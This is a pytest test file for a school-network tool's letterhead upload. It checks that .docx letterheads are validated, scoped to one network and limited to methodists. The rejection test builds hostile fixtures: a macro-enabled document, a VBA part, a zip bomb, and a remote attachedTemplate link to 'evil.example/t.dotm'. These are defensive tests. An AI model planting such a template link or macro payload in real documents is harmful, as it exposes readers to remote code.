"""A network's letterhead: validated (size, a real .docx, no macros, no outside template), kept per
network, and the base of that network's documents only."""
from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document as open_docx

from lti_tool.documents import letterheads
from lti_tool.documents.docx_writer import to_docx
from lti_tool.documents.model import Document, Requisites


def letterhead(text: str = "МАУ ИМЦ г. Томска — бланк") -> bytes:
    """A .docx as Word saves it: a header with the organization and a line of body text."""
    doc = open_docx()
    doc.sections[0].header.paragraphs[0].text = text
    doc.add_paragraph("634000, г. Томск, ул. Ленина, 1")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _repack(data: bytes, change) -> bytes:
    """`data` with its parts passed through change(name, bytes) → bytes | None (None drops the part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            body = change(info.filename, old.read(info))
            if body is not None:
                new.writestr(info.filename, body)
    return out.getvalue()


def test_documents_are_written_on_the_letterhead(app):
    with app.test_request_context():
        doc = Document(Requisites("АМСТ", "ПРОТОКОЛ", "15.10.2025", "3"))
        out = open_docx(io.BytesIO(to_docx(doc, letterhead())))
    assert out.sections[0].header.paragraphs[0].text == "МАУ ИМЦ г. Томска — бланк"
    texts = [p.text for p in out.paragraphs]
    assert texts.index("634000, г. Томск, ул. Ленина, 1") < texts.index("ПРОТОКОЛ")


@pytest.mark.parametrize("case", ["empty", "not a zip", "too large", "no document part", "macros", "vba",
                                  "outside template", "zip bomb"])
def test_uploads_that_are_not_a_plain_letterhead_are_refused(app, case):
    good = letterhead()
    data = {
        "empty": b"",
        "not a zip": b"%PDF-1.7 not a word document",
        "too large": good + b"\0" * letterheads.MAX_BYTES,
        "no document part": _repack(good, lambda n, b: None if n == "word/document.xml" else b),
        "macros": _repack(good, lambda n, b: b.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
                          if n == "[Content_Types].xml" else b),
        "vba": _with_part(good, "word/vbaProject.bin", b"\0" * 10),
        "outside template": _with_part(good, "word/_rels/settings.xml.rels",
                                       b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                                       b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                                       b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                                       b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
        "zip bomb": _with_part(good, "word/media/huge.bin", b"\0" * (letterheads.MAX_UNPACKED + 1)),
    }[case]
    with app.test_request_context(), pytest.raises(letterheads.LetterheadError):
        letterheads.validate(data)


def _with_part(data: bytes, name: str, body: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, body)
    return out.getvalue()


def test_a_valid_letterhead_passes(app):
    with app.test_request_context():
        letterheads.validate(letterhead())


def test_upload_is_network_scoped_and_methodists_only(client, auth):
    network_id = auth.network()
    other = auth.network()
    auth.login("methodist", network_id=network_id)
    page = client.get("/documents/letterhead")
    assert page.status_code == 200 and "Бланк для документов" in page.text
    bad = client.post("/documents/letterhead", data={"file": (io.BytesIO(b"not a docx"), "blank.docx")},
                      content_type="multipart/form-data")
    assert bad.status_code == 400 and "Это не документ Word (.docx)." in bad.text
    saved = client.post("/documents/letterhead", data={"file": (io.BytesIO(letterhead()), "бланк.docx")},
                        content_type="multipart/form-data")
    assert saved.status_code == 302
    mine = open_docx(io.BytesIO(client.get("/reports/yearly.docx").data))
    assert mine.sections[0].header.paragraphs[0].text == "МАУ ИМЦ г. Томска — бланк"
    auth.login("methodist", network_id=other)
    theirs = open_docx(io.BytesIO(client.get("/reports/yearly.docx").data))
    assert theirs.sections[0].header.paragraphs[0].text == ""
    auth.login("teacher", network_id=network_id)
    assert client.post("/documents/letterhead", data={"file": (io.BytesIO(letterhead()), "x.docx")},
                       content_type="multipart/form-data").status_code == 403
    auth.login("methodist", network_id=network_id)
    assert client.post("/documents/letterhead/remove").status_code == 302
    assert open_docx(io.BytesIO(client.get("/reports/yearly.docx").data)).sections[0].header.paragraphs[0].text == ""
